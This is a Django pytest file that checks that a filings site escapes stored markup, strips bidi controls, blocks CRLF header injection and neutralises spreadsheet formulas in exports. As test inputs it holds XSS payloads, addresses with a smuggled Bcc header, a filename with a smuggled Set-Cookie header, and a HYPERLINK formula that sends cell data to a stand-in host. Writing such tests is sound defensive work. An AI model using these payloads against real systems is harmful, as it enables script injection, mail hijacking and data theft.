"""Injection through stored values (QUALITY E1–E3, F; SPEC X1): markup typed into any field
that is shown back comes out escaped, bidi controls are refused or removed, CR/LF cannot add
mail or response headers, and exports never hold formulas."""

from __future__ import annotations

import pytest

from django.core import mail as django_mail
from django.core.exceptions import ValidationError
from django.http import BadHeaderError, HttpResponse
from django.test import Client
from django.utils.http import content_disposition_header

from filings import rules
from filings.admin.filings import escape_cell
from filings.demo.registry import corporate_number
from filings.forms.accounts import OrganizationRegistrationForm, check_email
from filings.models import Mail
from filings.services.mail import deliver, queue_mail
from tests.filings.conftest import _ja_site, make_org_user, make_resident, make_resident_user
from tests.filings.test_admin_registry import _sign_in
from tests.filings.test_filing_admin import _filing

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('x')</script>"
IMG = '"><img src=x onerror=alert(1)>'
PAYLOADS = (SCRIPT, IMG)
RLO = "\u202e"


@pytest.fixture
def site(db):
    return _ja_site()


def _assert_escaped(html: str, where: str) -> None:
    for payload in PAYLOADS:
        assert payload not in html, where
    assert "&lt;script&gt;" in html or "&lt;img" in html, where


def test_filing_content_and_names_are_escaped_for_the_filer_and_the_officer(site):
    user = make_resident_user()
    resident = user.resident_account.resident
    filing = _filing(resident=resident, filed_by=user, name_latin=SCRIPT)
    filing.data = {**filing.data, "org_name": SCRIPT, "org_address": IMG}
    filing.save()
    client = Client()
    client.force_login(user)
    response = client.get(f"/ja/status/{filing.public_id}/")
    assert response.status_code == 200
    _assert_escaped(response.content.decode(), "status page")

    from django.contrib.auth import get_user_model

    officer = get_user_model().objects.create_superuser("xss-officer", password="Officer#Pass1")
    staff = _sign_in(Client(), officer)
    for url in ("/admin/filings/", f"/admin/filings/inspect/{filing.pk}/"):
        response = staff.get(url)
        assert response.status_code == 200, url
        _assert_escaped(response.content.decode(), url)


def test_account_and_organization_values_are_escaped(site):
    user = make_org_user()
    organization = user.organization_membership.organization
    organization.name = SCRIPT
    organization.contact_name = IMG
    organization.save()
    user.email = "x@example.jp"
    user.save()
    client = Client()
    client.force_login(user)
    for url in ("/ja/account/profile/", "/ja/account/organization/", "/ja/status/"):
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        for payload in PAYLOADS:
            assert payload not in html, url
    from django.contrib.auth import get_user_model

    officer = get_user_model().objects.create_superuser("xss-officer2", password="Officer#Pass1")
    staff = _sign_in(Client(), officer)
    response = staff.get("/admin/snippets/filings/organization/")
    assert response.status_code == 200
    _assert_escaped(response.content.decode(), "organization listing")


def test_registry_names_are_escaped_in_the_filing_wizard(site):
    resident = make_resident(name_latin=IMG, address_rest=SCRIPT)
    user = make_resident_user(resident)
    client = Client()
    client.force_login(user)
    response = client.post("/ja/filing/new/activity_org_left/", follow=True)
    assert response.status_code == 200
    html = response.content.decode()
    for payload in PAYLOADS:
        assert payload not in html


def test_editor_owned_titles_are_escaped_too(site):
    about = site["about"]
    about.title = SCRIPT
    about.save_revision().publish()
    response = Client().get(about.url)
    assert response.status_code == 200
    _assert_escaped(response.content.decode(), "page title")


# --- bidi controls (E2) -----------------------------------------------------------------------


def test_bidi_controls_are_refused_in_filing_names_and_addresses():
    assert rules.check_latin_name(f"NGUYEN {RLO}THI LAN").errors
    assert rules.check_fullwidth_address(f"西新宿{RLO}２丁目").errors


def test_bidi_controls_are_removed_from_organization_registrations(site):
    form = OrganizationRegistrationForm(
        {
            "name": f"デモ{RLO}テック\u2066株式会社\u2069",
            "corporate_number": corporate_number(7_000_000_002),
            "address": f"東京都{RLO}新宿区",
            "organization_type": "company",
            "contact_name": f"\u200f田中{RLO}",
            "email": "tech@example.jp",
            "auth_id_first": "demotech.1",
        }
    )
    assert form.is_valid(), form.errors
    registration = form.save()
    for value in (registration.name, registration.address, registration.contact_name):
        assert not any(ch in value for ch in (RLO, "\u2066", "\u2069", "\u200f")), value
    assert registration.name == "デモテック株式会社"


# --- header injection (E3, D10) ---------------------------------------------------------------


@pytest.mark.parametrize(
    "address",
    ["victim@example.jp\r\nBcc: evil@example.com", "victim@example.jp\nCc: evil@example.com"],
)
def test_crlf_in_an_address_is_refused_by_the_forms(address):
    with pytest.raises(ValidationError):
        check_email(address)


def test_crlf_in_a_stored_address_never_adds_a_recipient(site):
    user = make_resident_user()
    Mail.objects.all().delete()
    bad = queue_mail(
        template="password_changed",
        dedupe_key="inject:crlf",
        recipient=user,
        address="victim@example.jp\r\nBcc: evil@example.com",
        context={},
    )
    django_mail.outbox.clear()
    outcome = deliver(bad.pk)
    bad.refresh_from_db()
    # Django refuses the header outright: the mail fails for officers to see, nothing is sent.
    assert outcome == "failed" and bad.state == Mail.State.FAILED
    sent = list(django_mail.outbox)
    recipients = [r for m in sent for r in m.recipients()]
    assert "evil@example.com" not in " ".join(recipients)
    assert all("\n" not in r and "\r" not in r for r in recipients)
    headers = "".join(m.message().as_string() for m in sent)
    assert "Bcc: evil" not in headers


def test_crlf_cannot_reach_a_response_header():
    header = content_disposition_header(True, "report\r\nSet-Cookie: x=1.xlsx")
    response = HttpResponse()
    try:
        response["Content-Disposition"] = header
    except BadHeaderError:
        return
    assert "\n" not in response["Content-Disposition"]
    assert "\r" not in response["Content-Disposition"]


# --- export formulas (E1; the export itself is tested in tests/filings/test_filing_admin.py) ----


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://x/?"&A1,"a")', "+1+1", "-2", "@SUM(A1)", "\tfoo", "\rx"]
)
def test_every_formula_start_is_neutralised(value):
    assert escape_cell(value).startswith("'")
    assert escape_cell("plain text") == "plain text"
    assert escape_cell(12) == 12
